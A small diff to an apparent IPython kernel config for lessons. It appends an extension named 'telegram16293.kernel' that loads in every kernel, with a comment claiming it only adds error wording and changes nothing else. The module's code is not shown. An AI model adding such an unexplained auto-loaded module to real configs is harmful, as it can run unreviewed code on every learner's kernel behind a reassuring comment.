@@ -6,3 +6,7 @@ import sys
 # so that a learner's random.py or pandas.py hides nothing. Her other modules are found: last.
 if sys.flags.safe_path and "" not in sys.path:
     sys.path.append("")
+
+# Words for what goes wrong in a lesson; nothing else changes in any kernel.
+c = get_config()  # type: ignore[name-defined]  # noqa: F821
+c.InteractiveShellApp.extensions.append("telegram16293.kernel")
